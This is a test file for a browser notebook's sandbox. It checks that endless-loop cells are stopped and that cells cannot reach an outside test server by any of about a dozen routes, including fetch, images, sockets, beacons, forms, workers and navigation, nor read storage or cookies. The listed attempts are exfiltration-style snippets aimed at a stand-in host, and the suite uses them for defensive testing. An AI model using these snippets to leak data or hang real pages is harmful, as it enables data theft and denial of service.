/** What cells of a notebook may not do to the page, to the network, or to the reader's patience. */
import {afterAll, beforeAll, describe, expect, it} from "vitest";
import {closeBrowser, notebookPage, type NotebookPage} from "./notebookPage.js";
import {otherServer} from "./otherServer.js";

let notebook: NotebookPage;
const other = await otherServer();
const leak = other.address;

beforeAll(async () => {
  notebook = await notebookPage("playground/markov");
});
afterAll(async () => {
  await notebook.close();
  await closeBrowser();
  other.close();
});

/** How long the page itself is held up at most while something is done, in milliseconds. */
async function longestPause(work: () => Promise<unknown>): Promise<number> {
  const {page} = notebook;
  await page.evaluate(() => {
    const seen = {last: performance.now(), longest: 0, timer: 0 as unknown};
    seen.timer = setInterval(() => {
      const now = performance.now();
      seen.longest = Math.max(seen.longest, now - seen.last);
      seen.last = now;
    }, 10);
    Object.assign(globalThis, {pauses: seen});
  });
  await work();
  return page.evaluate(() => {
    const {pauses} = globalThis as unknown as {pauses: {longest: number; timer: number}};
    clearInterval(pauses.timer);
    return pauses.longest;
  });
}

describe("a cell that never ends", () => {
  it.each([
    ["loops", "while (true) {}"],
    ["calls itself", "const f = () => { try { return f(); } catch { return f(); } }; f()"],
    ["is called back for ever", "Array.from({length: 1e9}, () => 1)"],
    ["swallows errors", "for (;;) { try { for (;;) {} } catch {} }"],
    ["goes on in microtasks", "await (async () => { for (;;) await 0; })()"],
    ["loops in a template", "<p>${(() => { for (;;); })()}</p>"]
  ])("and %s is stopped, and no other cell with it", async (_, code) => {
    const {open, shows, write} = notebook;
    const body = code.startsWith("<") ? ({mode: "html", value: code, pinned: true} as const) : code;
    await open(["const a = 1", body, "a + 1"]);
    expect(await longestPause(() => shows(1, /stopped: it ran 3 seconds|call stack/))).toBeLessThan(1000);
    await shows(2, /2/);
    await write(0, "const a = 5");
    await shows(2, /6/);
    notebook.problems.length = 0;
  });

  it("and that the guard does not see ends with its frame, and its cells are there again, at rest", async () => {
    const {open, status, frame, cell, output} = notebook;
    await open(["display('before')", "new Function('for (;;) {}')()", "3"], false);
    await notebook.button("Run all").click();
    await expect.poll(status, {timeout: 20_000}).toMatch(/did not answer/);
    await frame.locator(".cells.at-rest .cell").first().waitFor();
    expect(await cell(1).locator("textarea").inputValue()).toContain("new Function");
    expect(await output(0)).toBe("");
  });

  it("is stopped by the button at once, and so is all that runs", async () => {
    const {open, status, frame, button, output} = notebook;
    await open(["new Function('for (;;) {}')()"], false);
    await button("Run all").click();
    await notebook.page.waitForTimeout(1000);
    const began = Date.now();
    await button("Stop").click();
    await expect.poll(status).toMatch(/Stopped/);
    await frame.locator(".cells.at-rest .cell").first().waitFor();
    expect(Date.now() - began).toBeLessThan(3000);
    expect(await output(0)).toBe("");
  });

  it("and held up the page opens at rest the next time", async () => {
    const {open, page, status, frame} = notebook;
    await open(["1"]);
    const address = page.url();
    await page.goto(new URL("../glossary", address).href); // what the page marks as it begins is removed as it is left
    await page.evaluate(() => sessionStorage.setItem("llm-first-principles:notebook-running:playground/markov", "1"));
    await page.goto(address);
    await frame.locator(".cells.at-rest .cell").first().waitFor();
    expect(await status()).toMatch(/did not end/);
    await page.evaluate(() => sessionStorage.clear());
  });
});

describe("a cell that never ends, where a frame shares the process of its page,", () => {
  it("is stopped by the guard, and the page goes on", async () => {
    const {open, shows, close} = await notebookPage("playground/markov", {ownProcess: false});
    await open(["const a = 1", "while (true) {}", "a + 1"]);
    await shows(1, /stopped: it ran 3 seconds/);
    await shows(2, /2/);
    await close();
  });
});

describe("a cell that floods", () => {
  it("the page with messages is stopped with its frame", async () => {
    const {open, status, button} = notebook;
    await open(
      ["setInterval(() => { for (let i = 0; i < 5000; i++) notebookFile('x').catch(() => {}); }, 50); 1"],
      false
    );
    await button("Run all").click();
    expect(
      await longestPause(() => expect.poll(status, {timeout: 20_000}).toMatch(/sent more than the page can hear/))
    ).toBeLessThan(2000);
  });

  it("the frame with elements is seen as what it is, and the page goes on", async () => {
    const {open, shows} = notebook;
    await open(["for (let i = 0; i < 2e4; i++) display(document.createElement('i')); display('done')", "2"]);
    await shows(1, /2/);
    await shows(0, /done/);
  });
});

/** What a cell tries; each says in its own cell that it was refused. */
const attempts: readonly (readonly [what: string, code: string])[] = [
  ["fetches", `await fetch("http://${leak}")`],
  ["fetches from the site", `await fetch(new URL("/", document.referrer || "http://${leak}"))`],
  ["imports a script", `await (0, eval)("import('http://${leak}.js')")`],
  [
    "loads an image",
    `await new Promise((ok, no) => { const i = new Image(); i.onload = ok; i.onerror = () => no(new Error("refused")); i.src = "http://${leak}"; })`
  ],
  [
    "opens a socket",
    `await new Promise((ok, no) => { const s = new WebSocket("ws://${leak}"); s.onopen = ok; s.onerror = () => no(new Error("refused")); })`
  ],
  ["sends a beacon", `navigator.sendBeacon("http://${leak}", "x"); throw new Error("tried")`],
  [
    "loads a style sheet",
    `document.head.append(Object.assign(document.createElement("link"), {rel: "stylesheet", href: "http://${leak}"})); throw new Error("tried")`
  ],
  ["draws a background", `document.body.style.background = "url(http://${leak})"; throw new Error("tried")`],
  [
    "opens a frame",
    `document.body.append(Object.assign(document.createElement("iframe"), {src: "http://${leak}"})); throw new Error("tried")`
  ],
  [
    "posts a form",
    `const f = document.createElement("form"); f.action = "http://${leak}"; document.body.append(f); f.submit(); throw new Error("tried")`
  ],
  ["opens a window", `if (open("http://${leak}") === null) throw new Error("refused")`],
  [
    "fetches in a worker",
    `const w = new Worker(URL.createObjectURL(new Blob(["fetch('http://${leak}').then(() => postMessage('got it'), (e) => postMessage(String(e)))"]))); await new Promise((ok, no) => (w.onmessage = ({data}) => no(new Error(data))))`
  ],
  ["writes into the page", `parent.document.title = "changed"`],
  ["moves the page", `top.location.href = "http://${leak}"`],
  ["reads what the site keeps", `localStorage.getItem("x")`],
  ["sets a cookie", `document.cookie = "a=1"`],
  [
    "opens a database",
    `await new Promise((ok, no) => { const r = indexedDB.open("x"); r.onsuccess = ok; r.onerror = () => no(r.error); })`
  ]
];

describe("a cell that", () => {
  it.each(attempts)("%s is refused", async (_, code) => {
    const {open, shows, page} = notebook;
    const title = await page.title();
    await open(["display('x')", code]);
    await shows(1, /Error|refused|tried/);
    expect(await notebook.output(1)).not.toMatch(/got it/);
    await page.waitForTimeout(200);
    expect(other.visits()).toBe(0);
    expect(await page.title()).toBe(title);
  });

  it("asks the page for a link gets pages of the book alone, and none that the reader has not clicked", async () => {
    const {open, page, frame} = notebook;
    await open([
      {mode: "html", value: `<a href="http://${leak}">away</a> <a href="/glossary">here</a>`, pinned: false},
      "document.querySelectorAll('a').forEach((a) => a.click()); 1"
    ]);
    await page.waitForTimeout(500);
    const url = page.url();
    await frame.getByText("away").click();
    await page.waitForTimeout(500);
    expect(page.url()).toBe(url);
    expect(other.visits()).toBe(0);
    await frame.getByText("here").click();
    await page.waitForURL(/glossary/);
  });

  it("leaves its frame is brought back", async () => {
    const {open, status, button} = notebook;
    await open([`location.href = "http://${leak}"; 1`], false);
    await button("Run all").click();
    await expect.poll(status, {timeout: 20_000}).toMatch(/did not answer/);
    expect(other.visits()).toBe(0);
  });

  it("looks for ways to other computers finds none, and inner documents run no scripts", async () => {
    const {open, shows} = notebook;
    await open([
      "Object.getOwnPropertyNames(globalThis).filter((name) => /RTC|WebTransport/.test(name)).length",
      "const s = document.createElement('script'); s.textContent = 'globalThis.inline = 1'; document.head.append(s); display(globalThis.inline ?? 'none')"
    ]);
    await shows(0, /^0$/);
    await shows(1, /none/);
  });

  it("rewrites its own notebook is checked", async () => {
    const {open, frame, status} = notebook;
    await open(["1"]);
    await frame.locator("textarea").fill("x".repeat(200_001));
    await expect.poll(status).toMatch(/this change is not kept/);
  });
});
